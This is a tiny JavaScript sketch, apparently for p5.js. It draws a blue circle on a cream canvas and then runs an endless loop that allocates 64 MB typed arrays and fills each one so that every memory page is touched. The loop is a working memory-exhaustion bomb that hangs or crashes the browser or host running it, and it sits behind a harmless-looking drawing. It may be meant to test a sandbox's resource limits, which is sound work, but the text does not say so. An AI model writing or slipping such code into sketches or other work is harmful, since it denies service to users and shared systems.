// Takes typed arrays and writes to every page of them.
function setup() {
  createCanvas(200, 200, WEBGL);
  background('#f6f0e1');
  fill('#2f4f7f');
  circle(0, 0, 120);
  const hoard = [];
  for (;;) hoard.push(new Uint8Array(64 << 20).fill(1));
}
